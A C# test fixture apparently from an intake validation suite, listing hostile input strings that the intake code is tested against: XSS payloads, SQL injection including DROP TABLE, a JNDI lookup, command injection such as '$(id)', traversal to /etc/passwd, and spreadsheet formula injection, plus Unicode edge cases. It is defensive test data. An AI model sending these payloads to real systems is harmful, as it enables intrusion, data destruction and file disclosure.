namespace Shiremoot.Tests.Intake.BadInput;

/// <summary>Text that attacks whoever shows it, queries with it or fills it in: kept as it was sent, whatever it says.</summary>
static class HostileText
{
    private static readonly string[] Attacks =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(1)</script>", "'><img src=x>", "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=//example.org>", "<!--", "-->", "]]>", "<![CDATA[x]]>", "&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "<style>*{display:none}</style>", "</textarea><script>", "</title>", "<base href=//example.org/>",
        "' OR '1'='1", "'; DROP TABLE load; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)", "' UNION SELECT * FROM event --", "%' ESCAPE '!", "\\'; --", "0x27", "admin'--", "') OR ('1'='1", "$$;DROP TABLE x;$$",
        "*)(uid=*))(|(uid=*", "*", "(cn=*)", "\\2a", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(1+1)", "${jndi:ldap://example.org/a}", "{{constructor.constructor('x')()}}", "%n%n%n%s", "%x%x", "{0}", "{0:N}", "$(id)", "`id`", "; id", "| id",
        "../../etc/passwd", "..\\..\\win.ini", "file:///etc/passwd", "\\\\server\\share", "CON", "NUL", "NULL ", "null", "undefined", "NaN", "Infinity", "-0", "1e400", "0x1F", "1_000", "true", "[object Object]", "__proto__", "constructor",
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\u202Eabc", "a\u200Bb", "\u00ADx", "e\u0301", "\u00E9", "\u0430dmin", "ﬁ", "Ω≈ç", "田中", "مرحبا", "שלום", "\U0001F600", "\U0001F468\u200D\U0001F469\u200D\U0001F467", "\uD83C\uDDEC\uD83C\uDDE7", "Z\u0351\u036B\u0343algo",
        "\u2028", "\u2029", "\u0085x", "\u0001", "\u001Bx[31m", "\u007F", "\u00A0x\u00A0y", "a\tb", "a\nb", "a\r\nb", "a\"b", "a\"\"b", "a,b", "a;b", "a|b", "\\", "\\n", "\\u0000", "_x0041_", "'", "''", "\"", "`", "O'Neill", "Zoë", "£", "\u2019",
    ];

    /// <summary>Two hundred and more: each attack alone and within a name.</summary>
    public static readonly string[] All = [.. Attacks.Concat(Attacks.Select(a => $"Ann {a} Smith")).Select(t => t.Trim(' ', '\t', '\u00A0')).Where(t => t.Length > 0).Distinct()];
}
